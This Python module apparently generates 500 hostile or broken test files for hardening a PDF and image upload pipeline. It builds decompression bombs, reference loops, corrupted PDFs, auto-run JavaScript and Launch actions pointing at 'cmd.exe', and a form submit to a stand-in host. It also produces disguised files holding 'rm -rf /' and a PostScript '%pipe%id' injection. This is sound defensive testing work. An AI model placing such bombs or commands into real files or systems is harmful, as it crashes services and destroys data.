"""Five hundred attached documents that mean no good, or are only broken: each made anew from its number."""

from __future__ import annotations

import random
import struct
import zlib
from collections.abc import Callable
from io import BytesIO

import pikepdf
from PIL import Image

HOW_MANY = 500
_ACTIONS = ("JavaScript", "Launch", "SubmitForm", "ImportData", "GoToR", "URI", "Named", "Hide", "Rendition", "Movie")


def hostile(number: int) -> bytes:
    """Return one file; the same number gives the same file, but for the random numbers of an encrypted one."""
    return _KINDS[number % len(_KINDS)](random.Random(number))


def kind_of_hostile(number: int) -> str:
    """Return what kind of file a number gives."""
    return _KINDS[number % len(_KINDS)].__name__.strip("_")


def ordinary_pdf(chance: random.Random, pages: int = 3, picture: bool = True) -> pikepdf.Pdf:
    """Return a file as a bank or an office gives it out: text, a picture, fonts of the reader."""
    pdf = pikepdf.Pdf.new()
    font = pdf.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
    )
    drawn = pikepdf.Dictionary()
    if picture:
        pixels = chance.randbytes(64 * 64 * 3)
        drawn.Im0 = pikepdf.Stream(
            pdf,
            zlib.compress(pixels),
            Type=pikepdf.Name.XObject,
            Subtype=pikepdf.Name.Image,
            Width=64,
            Height=64,
            ColorSpace=pikepdf.Name.DeviceRGB,
            BitsPerComponent=8,
            Filter=pikepdf.Name.FlateDecode,
        )
    resources = pdf.make_indirect(pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font), XObject=drawn))
    for number in range(pages):
        text = f"BT /F1 18 Tf 72 700 Td (Certificate {number} {chance.random()}) Tj ET "
        content = text + ("q 200 0 0 200 100 300 cm /Im0 Do Q" if picture else "")
        page = pdf.add_blank_page(page_size=(595, 842))
        page.obj.Contents = pdf.make_stream(content.encode())
        page.obj.Resources = resources
    return pdf


def saved(pdf: pikepdf.Pdf, **how: object) -> bytes:
    """Return a file as it is written."""
    out = BytesIO()
    pdf.save(out, **how)  # type: ignore[arg-type]
    return out.getvalue()


def _mutated_bytes(chance: random.Random) -> bytes:
    data = bytearray(saved(ordinary_pdf(chance), object_stream_mode=pikepdf.ObjectStreamMode.disable))
    for _ in range(chance.choice((1, 5, 30, 200))):
        data[chance.randrange(len(data))] = chance.randrange(256)
    return bytes(data)


def _mutated_words(chance: random.Random) -> bytes:
    data = saved(ordinary_pdf(chance), qdf=True)
    words = [b"/Kids", b"/Count", b"/Length", b"obj", b"stream", b"xref", b"/Type", b"/MediaBox", b" 0 R", b"/Width"]
    for word in chance.sample(words, 3):
        data = data.replace(word, chance.choice([*words, b"", b"9999999999", b"[[[[", b"<<<<"]), chance.randrange(1, 4))
    return data


def _cut(chance: random.Random) -> bytes:
    data = saved(ordinary_pdf(chance))
    return data[: chance.randrange(8, len(data))]


def _encrypted_for_its_reader(chance: random.Random) -> bytes:
    old = pikepdf.Encryption(owner="owner", user="user", R=3, aes=False, metadata=False)
    lock = chance.choice((old, pikepdf.Encryption(owner="owner", user="user", R=6)))
    return saved(ordinary_pdf(chance), encryption=lock)


def _encrypted_for_its_owner(chance: random.Random) -> bytes:
    allow = pikepdf.Permissions(
        modify_assembly=chance.random() < 0.3,
        modify_other=False,
        print_lowres=chance.random() < 0.7,
        print_highres=chance.random() < 0.5,
    )
    return saved(ordinary_pdf(chance), encryption=pikepdf.Encryption(owner="owner", user="", R=6, allow=allow))


def _action(chance: random.Random) -> pikepdf.Dictionary:
    kind = chance.choice(_ACTIONS)
    action = pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name(f"/{kind}"), JS="app.alert(1)", F="cmd.exe")
    action.Next = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="this.submitForm('http://e.example')")
    return action


def _acting(chance: random.Random) -> bytes:
    pdf = ordinary_pdf(chance)
    page, action = pdf.pages[0].obj, pdf.make_indirect(_action(chance))
    match chance.randrange(6):
        case 0:
            pdf.Root.OpenAction = action
        case 1:
            page.AA = pikepdf.Dictionary(O=action, C=action)
        case 2:
            pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["a", action])))
        case 3:
            box = pikepdf.Array([0, 0, 595, 842])
            page.Annots = pikepdf.Array(
                [pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=box, A=action)]
            )
        case 4:
            # Where no reader should look for it, and in the names of a page's own resources.
            page.Resources.Font.F1.A = action
            page.Resources.Properties = pikepdf.Dictionary(JS=action, Launch=action)
            page.Resources.XObject.Im0.AF = action
        case _:
            pdf.attachments["evil.exe"] = b"MZ" + chance.randbytes(100)
    return saved(pdf)


def _acting_form(chance: random.Random) -> bytes:
    pdf = ordinary_pdf(chance)
    look = pdf.make_stream(b"BT /F1 12 Tf (seen) Tj ET", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form)
    look.BBox = pikepdf.Array([0, 0, 100, 20])
    look.AA = _action(chance)
    field = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Widget,
            FT=pikepdf.Name.Tx,
            T="name",
            V="value",
            F=4,
            Rect=pikepdf.Array([50, 50, 150, 70]),
            AP=pikepdf.Dictionary(N=look),
            AA=pikepdf.Dictionary(K=_action(chance), F=_action(chance)),
        )
    )
    pdf.pages[0].obj.Annots = pikepdf.Array([field])
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]), NeedAppearances=chance.random() < 0.5)
    if chance.random() < 0.5:
        pdf.Root.AcroForm.XFA = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
        pdf.Root.NeedsRendering = chance.random() < 0.5
    return saved(pdf)


def _packed_blanks(times: int) -> bytes:
    """Return so many times ten million blanks, packed; one packed piece is repeated, which is quick to make."""
    blanks = b" " * 10_000_000
    packing = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    piece = packing.compress(blanks) + packing.flush(zlib.Z_FULL_FLUSH)
    total = 1
    for _ in range(times):
        total = zlib.adler32(blanks, total)
    return b"\x78\xda" + piece * times + packing.flush() + struct.pack(">I", total)


def _flate_bomb(chance: random.Random) -> bytes:
    pdf = ordinary_pdf(chance, 1)
    bomb = _packed_blanks(chance.choice((150, 300)))
    names = [pikepdf.Name.FlateDecode]
    if chance.random() < 0.5:
        bomb, names = zlib.compress(bomb, 9), names * 2
    stream = pikepdf.Stream(pdf, bomb, Filter=pikepdf.Array(names))
    page = pdf.pages[0].obj
    match chance.randrange(3):
        case 0:
            page.Contents = pdf.make_indirect(stream)
        case 1:
            page.Resources.Font.F1.ToUnicode = pdf.make_indirect(stream)
        case _:
            stream.Type, stream.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
            stream.Width, stream.Height, stream.BitsPerComponent = 60_000, 60_000, 8
            stream.ColorSpace = pikepdf.Name.DeviceGray
            page.Resources.XObject.Im0 = pdf.make_indirect(stream)
    return saved(pdf, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


def _object_stream_bomb(chance: random.Random) -> bytes:
    many = chance.choice((30_000, 400_000))
    pairs = " ".join(f"{number + 10} 0" for number in range(many)).encode()
    body = zlib.compress(pairs + b" << /A [ " + b"[ " * chance.choice((100, 5_000)))
    head = (
        f"5 0 obj << /Type /ObjStm /N {many} /First {len(pairs)} /Length {len(body)} /Filter /FlateDecode >> stream\n"
    )
    tail = b"\nendstream endobj\n1 0 obj << /Type /Catalog /Pages 11 0 R >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF"
    return b"%PDF-1.7\n" + head.encode() + body + tail


def _drawing_bomb(chance: random.Random) -> bytes:
    """Drawings that each draw the next one many times: ten to the power of the depth."""
    pdf = ordinary_pdf(chance, 1)
    inner = None
    for _ in range(chance.choice((6, 9, 12))):
        form = pdf.make_stream(b"/X Do " * 10 if inner is not None else b"0 0 9 9 re f " * 50)
        form.Type, form.Subtype, form.BBox = pikepdf.Name.XObject, pikepdf.Name.Form, pikepdf.Array([0, 0, 600, 900])
        form.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=inner) if inner is not None else None)
        inner = form
    pdf.pages[0].obj.Resources.XObject.Im0 = inner
    return saved(pdf)


def _loops(chance: random.Random) -> bytes:
    pdf = ordinary_pdf(chance, 2)
    page = pdf.pages[0].obj
    match chance.randrange(5):
        case 0:
            pdf.Root.Pages.Kids.append(pdf.Root.Pages)
        case 1:
            page.Contents = pdf.make_indirect(pikepdf.Array([page.Contents]))
            page.Contents.append(page.Contents)
        case 2:
            round_about = pdf.make_indirect(pikepdf.Array([]))
            round_about.extend([round_about] * 8)
            page.Resources.ColorSpace = pikepdf.Dictionary(CS=round_about)
            page.Resources.Font.F1.Widths = round_about
        case 3:
            form = pdf.make_stream(b"/Self Do", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form)
            form.BBox = pikepdf.Array([0, 0, 100, 100])
            form.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Self=form))
            page.Resources.XObject.Im0 = form
        case _:
            data = saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.disable)
            start = data.rindex(b"startxref")
            place = data.rindex(b"xref", 0, start)
            return (
                data[: place + 4] + data[place + 4 : start].replace(b"/Root", b"/Prev %d /Root" % place) + data[start:]
            )
    return saved(pdf)


def _many_pages(chance: random.Random) -> bytes:
    pdf = ordinary_pdf(chance, 1, picture=False)
    for _ in range(chance.choice((499, 500, 9_999))):
        pdf.pages.append(pdf.pages[0])
    return saved(pdf)


def _odd_pages(chance: random.Random) -> bytes:
    pdf = ordinary_pdf(chance)
    page = pdf.pages[0].obj
    boxes = ([0, 0, 0, 0], [0, 0, 1e9, 1e9], [-5, -5, -600, -900], [0, 0, 14_400, 3], ["a", 0, 1, 1], [0, 0, 90, 50])
    page.MediaBox = pikepdf.Array(chance.choice(boxes))
    page.Rotate = chance.choice((0, 90, 45, -90, 270, 10**12))
    page.UserUnit = chance.choice((1, 0, -1, 75_000))
    return saved(pdf)


def _wrong_name(chance: random.Random) -> bytes:
    return chance.choice(
        (
            b"<html><script>alert(1)</script></html>",
            b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            b"PK\x03\x04" + chance.randbytes(500),
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + chance.randbytes(500),
            b"MZ" + chance.randbytes(500),
            b"GIF89a" + chance.randbytes(200),
            b"#!/bin/sh\nrm -rf /\n",
            b"",
            chance.randbytes(1_000),
            b"%!PS-Adobe-3.0\n(%pipe%id) (r) file",
            b"\xff\xd8\xff" + chance.randbytes(300),
            b"%PDF-1.7\n" + chance.randbytes(2_000),
        )
    )


def _image(chance: random.Random, mode: str, size: tuple[int, int]) -> Image.Image:
    colours = tuple(chance.randrange(256) for _ in Image.new(mode, (1, 1)).getbands())
    return Image.new(mode, size, colours if len(colours) > 1 else colours[0])


def _odd_picture(chance: random.Random) -> bytes:
    out = BytesIO()
    match chance.randrange(7):
        case 0:
            _image(chance, "CMYK", (900, 700)).save(out, "JPEG", icc_profile=chance.randbytes(200))
        case 1:
            frames = [_image(chance, "RGBA", (80, 80)) for _ in range(20)]
            frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
        case 2:
            frames = [_image(chance, "RGB", (80, 80)) for _ in range(20)]
            frames[0].save(out, "WEBP", save_all=True, append_images=frames[1:])
        case 3:
            Image.new("I;16", (300, 300), chance.randrange(65_536)).save(out, "PNG")
        case 4:
            _image(chance, "RGB", (3, 20_000)).save(out, "JPEG", exif=b"Exif\x00\x00" + chance.randbytes(60))
        case 5:
            frames = [_image(chance, "CMYK", (300, 200)) for _ in range(4)]
            frames[0].save(out, "TIFF", save_all=True, append_images=frames[1:], compression="tiff_lzw")
        case _:
            _image(chance, "P", (500, 500)).save(out, "PNG", transparency=0)
    return out.getvalue()


def _broken_picture(chance: random.Random) -> bytes:
    out = BytesIO()
    kind = chance.choice(("JPEG", "PNG", "TIFF", "WEBP"))
    Image.frombytes("RGB", (120, 120), chance.randbytes(43_200)).save(out, kind)
    data = bytearray(out.getvalue())
    for _ in range(chance.choice((1, 10, 100))):
        data[chance.randrange(4, len(data))] = chance.randrange(256)
    return bytes(data[: chance.randrange(100, len(data))] if chance.random() < 0.5 else data)


def _huge_photo(chance: random.Random) -> bytes:
    """A hundred megapixels as a camera gives them, in the three formats that it may choose."""
    out = BytesIO()
    side = chance.choice((10_000, 12_000, 13_000))
    match chance.randrange(3):
        case 0:
            _image(chance, "RGB", (side, 10_000)).save(out, "JPEG", quality=50)
        case 1:
            _image(chance, "RGBA", (side, 10_000)).save(out, "PNG", compress_level=1)
        case _:
            _image(chance, "RGB", (side, 10_000)).save(out, "TIFF", compression="packbits")
    return out.getvalue()


def _png(width: int, height: int, rows: bytes) -> bytes:
    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def _picture_bomb(chance: random.Random) -> bytes:
    match chance.randrange(4):
        case 0:
            return _png(100_000, 100_000, zlib.compress(bytes(1_000_000)))
        case 1:
            return _png(100, 100, zlib.compress(bytes(200_000_000), 9))
        case 2:
            out = BytesIO()
            Image.new("L", (10, 10)).save(out, "TIFF")
            tags = bytearray(out.getvalue())
            for tag in (256, 257):
                for kind in (3, 4):
                    place = tags.find(struct.pack("<HHI", tag, kind, 1))
                    if place >= 0:
                        tags[place : place + 12] = struct.pack("<HHII", tag, 4, 1, 2_000_000_000)
            return bytes(tags)
        case _:
            comment = zlib.compress(bytes(100_000_000), 9)
            text = b"zTXt" + b"c\x00\x00" + comment
            data = _png(10, 10, zlib.compress(bytes(310)))
            extra = struct.pack(">I", len(text) - 4) + text + struct.pack(">I", zlib.crc32(text))
            return data[:33] + extra + data[33:]


_KINDS: tuple[Callable[[random.Random], bytes], ...] = (
    _mutated_bytes,
    _mutated_words,
    _cut,
    _encrypted_for_its_reader,
    _encrypted_for_its_owner,
    _acting,
    _acting_form,
    _flate_bomb,
    _object_stream_bomb,
    _drawing_bomb,
    _loops,
    _many_pages,
    _odd_pages,
    _wrong_name,
    _odd_picture,
    _broken_picture,
    _huge_photo,
    _picture_bomb,
    _mutated_bytes,
    _acting,
)
